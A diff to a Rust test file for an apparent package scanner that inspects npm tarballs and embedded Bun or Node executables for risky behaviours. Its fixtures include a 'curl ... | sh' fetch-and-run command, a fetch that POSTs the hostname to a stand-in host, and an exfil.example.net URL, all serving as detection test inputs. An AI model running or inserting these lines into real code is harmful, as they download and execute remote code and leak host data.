@@ -8,7 +8,7 @@ use flate2::Compression;
 use flate2::write::GzEncoder;
 use sha2::{Digest, Sha256};
 use std::io::Write;
-use vetted::content::manifest::EntryKind;
+use vetted::content::manifest::{BehaviourKind, EntryKind};
 use vetted::content::{ContentManifest, InspectOptions, inspect_file};
 use vetted::diff::{self, SignalKind};
 use vetted::limits::Limits;
@@ -131,10 +131,21 @@ fn embedded_modules_are_listed_with_their_digests() {
     assert_eq!(cli.kind, EntryKind::Embedded);
     assert_eq!(cli.size, CLI_V1.len() as u64);
     assert_eq!(cli.sha256.as_ref().unwrap().to_string(), sha(CLI_V1));
-    assert!(cli.signals.env_vars.contains("HOME"));
+    // Parsed JavaScript: behaviours with evidence, not byte-scan signals.
+    let has = |e: &vetted::content::manifest::Entry, kind: BehaviourKind, v: &str| {
+        e.behaviours
+            .iter()
+            .any(|b| b.kind == kind && b.value.as_deref() == Some(v))
+    };
+    assert!(
+        has(cli, BehaviourKind::EnvRead, "HOME"),
+        "{:?}",
+        cli.behaviours
+    );
+    assert!(cli.signals.env_vars.is_empty());
     let chunk = &m.entries["package/claude!/$bunfs/root/chunk.js"];
     assert_eq!(chunk.sha256.as_ref().unwrap().to_string(), sha(CHUNK_V1));
-    assert!(chunk.signals.urls.contains("https://api.example.com/v1"));
+    assert!(has(chunk, BehaviourKind::Url, "https://api.example.com/v1"));
     // The executable itself is still a file with its own digest; totals count archive files only.
     assert_eq!(
         m.entries["package/claude"]
@@ -186,16 +197,35 @@ fn diff_reports_embedded_changes_and_their_signals() {
     assert!(changed.contains(&"package/claude"));
     assert!(!changed.contains(&"package/claude!/$bunfs/root/cli.js"));
     let url = r
-        .signals
+        .behaviours
         .iter()
-        .find(|s| s.kind == SignalKind::UrlAdded && s.subject == "https://exfil.example.net/x")
+        .find(|c| {
+            c.change == "url-added"
+                && c.behaviour.value.as_deref() == Some("https://exfil.example.net/x")
+        })
         .expect("url-added from the embedded module");
+    assert_eq!(url.module, "package/claude!/$bunfs/root/chunk.js");
+    // Evidence in the module's own source: the literal, at its 1-based column.
+    let col = CHUNK_V2.windows(7).position(|w| w == b"'https:").unwrap() + 1;
+    let col = CHUNK_V2[col..]
+        .windows(7)
+        .position(|w| w == b"'https:")
+        .unwrap()
+        + col
+        + 1;
+    assert_eq!((url.behaviour.line, url.behaviour.column), (1, col as u32));
     assert!(
-        url.files
-            .contains(&"package/claude!/$bunfs/root/chunk.js".to_string()),
-        "{:?}",
-        url.files
+        url.behaviour
+            .snippet
+            .starts_with("'https://exfil.example.net/x'")
     );
+    assert!(
+        r.behaviours
+            .iter()
+            .any(|c| c.change == "network-added" && c.behaviour.value.as_deref() == Some("fetch"))
+    );
+    // The module that did not change contributes nothing.
+    assert!(!r.behaviours.iter().any(|c| c.change.ends_with("-removed")));
     assert!(
         r.signals
             .iter()
@@ -269,4 +299,156 @@ fn corrupt_graphs_are_ignored_without_panic() {
     .unwrap();
     assert!(m.entries.values().all(|e| e.kind != EntryKind::Embedded));
     assert!(m.notes[0].contains("embedded_graph_bytes"), "{:?}", m.notes);
+}
+
+/// `v1()` with a Bun runtime's own strings in its code: a version string, a release URL, an
+/// environment name glued to a value, as in the real binary.
+fn with_runtime(mut exe: Vec<u8>, version: &str) -> Vec<u8> {
+    let rodata = format!(
+        "Bun v{version} (6634fc3b5) Linux x64\0https://github.com/oven-sh/bun/releases/download/bun-v{version}/bun-linux-x64.zip\0NODE_ENVdevelopment process.env.NODE_ENV https://UNHANDLED_CRITICAL_CRL_EXTENSION"
+    );
+    exe[20_000..20_000 + rodata.len()].copy_from_slice(rodata.as_bytes());
+    exe
+}
+
+#[test]
+fn runtime_strings_are_one_runtime_behaviour_not_urls() {
+    let exe = with_runtime(v1(), "1.4.4");
+    let m = inspect(
+        &tgz(&[("package/package.json", PKG), ("package/claude", &exe)]),
+        true,
+    );
+    let e = &m.entries["package/claude"];
+    assert!(
+        e.signals.urls.is_empty() && e.signals.env_vars.is_empty(),
+        "{:?}",
+        e.signals
+    );
+    let kinds: Vec<_> = e
+        .behaviours
+        .iter()
+        .map(|b| (b.kind, b.value.clone()))
+        .collect();
+    assert_eq!(
+        kinds,
+        [
+            (BehaviourKind::Executable, Some("claude".to_string())),
+            (BehaviourKind::Runtime, Some("bun-v1.4.4".to_string())),
+        ]
+    );
+    // A runtime update is one change each way, from the executable, none from its strings.
+    let new = inspect(
+        &tgz(&[
+            ("package/package.json", PKG),
+            ("package/claude", &with_runtime(v1(), "1.4.6")),
+        ]),
+        true,
+    );
+    let r = diff::diff("old", &m, "new", &new);
+    let changes: Vec<_> = r
+        .behaviours
+        .iter()
+        .map(|c| (c.change.as_str(), c.behaviour.value.as_deref()))
+        .collect();
+    assert_eq!(
+        changes,
+        [
+            ("runtime-added", Some("bun-v1.4.6")),
+            ("runtime-removed", Some("bun-v1.4.4")),
+        ]
+    );
+}
+
+#[test]
+fn a_file_that_only_looks_like_bun_has_no_runtime_fact() {
+    // No module graph: the strings stay the byte scan's, and there is no runtime behaviour.
+    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
+    exe.resize(100_000, 0x90);
+    let s = b"Bun v1.4.4 (x) https://example.com/a";
+    exe[5000..5000 + s.len()].copy_from_slice(s);
+    let m = inspect(&tgz(&[("package/tool", &exe)]), true);
+    let e = &m.entries["package/tool"];
+    assert!(
+        e.behaviours
+            .iter()
+            .all(|b| b.kind != BehaviourKind::Runtime)
+    );
+    assert!(e.signals.urls.contains("https://example.com/a"));
+}
+
+#[test]
+fn embedded_zst_resource_is_decompressed_and_analysed() {
+    let js = b"require('child_process').exec('curl https://x.example/i.sh | sh')";
+    let zst =
+        ruzstd::encoding::compress_to_vec(&js[..], ruzstd::encoding::CompressionLevel::Fastest);
+    let exe = executable(&[
+        ("/$bunfs/root/cli.js", CLI_V1),
+        ("/$bunfs/root/setup.mjs-0a1b2c3d.txt.zst", &zst),
+        ("/$bunfs/root/README-0a1b2c3d.md.zst", b"not zstd"),
+    ]);
+    let m = inspect(&tgz(&[("package/claude", &exe)]), true);
+    let e = &m.entries["package/claude!/$bunfs/root/setup.mjs-0a1b2c3d.txt.zst"];
+    let spawn = e
+        .behaviours
+        .iter()
+        .find(|b| b.kind == BehaviourKind::ProcessSpawn && b.attributes.contains("shell"))
+        .expect("process-spawn from the decompressed module");
+    assert!(spawn.attributes.contains("suspicious-command"));
+    let bad = &m.entries["package/claude!/$bunfs/root/README-0a1b2c3d.md.zst"];
+    assert!(
+        bad.parse_error
+            .as_deref()
+            .is_some_and(|e| e.contains("zstd"))
+    );
+}
+
+/// A Node single-executable application: a fake `node` with a `NODE_SEA_BLOB` note holding the
+/// blob (`src/node_sea.cc` layout: magic, flags, code path, code, assets).
+fn node_sea(code: &[u8]) -> Vec<u8> {
+    let mut blob = 0x0143_da20u32.to_le_bytes().to_vec();
+    blob.extend_from_slice(&8u32.to_le_bytes()); // kIncludeAssets
+    for part in [&b"/src/dist/index.js"[..], code] {
+        blob.extend_from_slice(&(part.len() as u64).to_le_bytes());
+        blob.extend_from_slice(part);
+    }
+    blob.extend_from_slice(&1u64.to_le_bytes());
+    for part in [&b"sdk/tool.mjs"[..], b"export default 1"] {
+        blob.extend_from_slice(&(part.len() as u64).to_le_bytes());
+        blob.extend_from_slice(part);
+    }
+    let mut e = b"\x7fELF\x02\x01\x01\0".to_vec();
+    e.resize(80_000, 0x90);
+    e.extend_from_slice(&14u32.to_le_bytes());
+    e.extend_from_slice(&(blob.len() as u32).to_le_bytes());
+    e.extend_from_slice(&0u32.to_le_bytes());
+    e.extend_from_slice(b"NODE_SEA_BLOB\0\0\0");
+    e.extend_from_slice(&blob);
+    e.extend_from_slice(&[0u8; 64]);
+    e
+}
+
+#[test]
+fn node_sea_main_script_and_assets_are_embedded_modules() {
+    let exe = node_sea(b"const os = require('os'); fetch('https://c.example', {method:'POST', body: os.hostname()});");
+    let m = inspect(&tgz(&[("package/copilot", &exe)]), true);
+    let main = &m.entries["package/copilot!/sea/index.js"];
+    assert_eq!(main.kind, EntryKind::Embedded);
+    assert!(
+        main.behaviours
+            .iter()
+            .any(|b| b.kind == BehaviourKind::Exfiltration),
+        "{:?}",
+        main.behaviours
+    );
+    assert!(
+        m.entries
+            .contains_key("package/copilot!/sea/assets/sdk/tool.mjs")
+    );
+    // The binary itself is the runtime: no URL strings of its own are listed.
+    let e = &m.entries["package/copilot"];
+    assert!(
+        e.behaviours
+            .iter()
+            .any(|b| b.kind == BehaviourKind::Runtime)
+    );
 }
